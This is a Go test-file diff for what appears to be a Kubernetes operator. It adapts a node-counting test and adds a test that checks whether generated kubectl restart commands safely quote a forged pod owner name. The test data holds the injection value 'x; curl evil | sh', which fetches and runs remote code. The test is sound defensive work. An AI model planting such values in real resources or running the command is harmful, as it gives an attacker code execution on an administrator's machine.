@@ -18,6 +18,7 @@ import (
 	"sigs.k8s.io/yaml"
 
 	"github.com/credence-iam/credence/broker/policy"
+	"github.com/credence-iam/credence/operator/finding"
 	"github.com/credence-iam/credence/operator/installation"
 )
 
@@ -318,9 +319,30 @@ func TestVersions(t *testing.T) {
 func TestNodes(t *testing.T) {
 	var n Nodes
 	for _, version := range []string{"v1.28.5", "v1.29.0", "v1.37.2", ""} {
-		n.Add(&corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "n" + version}, Spec: corev1.NodeSpec{ProviderID: "aws:///eu-west-1a/i-1"}, Status: corev1.NodeStatus{NodeInfo: corev1.NodeSystemInfo{KubeletVersion: version}}})
+		n.Add(&Snapshot{}, &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "n" + version}, Spec: corev1.NodeSpec{ProviderID: "aws:///eu-west-1a/i-1"}, Status: corev1.NodeStatus{NodeInfo: corev1.NodeSystemInfo{KubeletVersion: version}}})
 	}
 	if n.Total != 4 || n.EC2 != 4 || n.Old.Count != 1 || n.Old.Examples[0] != "nv1.28.5 (v1.28.5)" {
 		t.Errorf("%+v", n)
+	}
+}
+
+// TestForgedOwner: the API server accepts any name of an owner, so the author of a pod can write what an admin then pastes.
+func TestForgedOwner(t *testing.T) {
+	s := &Snapshot{Target: finding.Cluster{Context: "prod"}}
+	for kind, want := range map[string]string{
+		"StatefulSet": `kubectl --context=prod -n shop rollout restart statefulset/'x; curl evil | sh'`,
+		"ReplicaSet":  `kubectl --context=prod -n shop rollout restart deployment/'x; curl evil | sh'`,
+		"Job":         `kubectl --context=prod -n shop delete pod cart`,
+	} {
+		name := "x; curl evil | sh"
+		if kind == "ReplicaSet" {
+			name += "-1"
+		}
+		got := s.restart(&corev1.Pod{ObjectMeta: metav1.ObjectMeta{
+			Namespace: "shop", Name: "cart", Labels: map[string]string{"pod-template-hash": "1"}, OwnerReferences: []metav1.OwnerReference{{Kind: kind, Name: name}},
+		}})
+		if got != want {
+			t.Errorf("%s: command is %s, want %s", kind, got, want)
+		}
 	}
 }
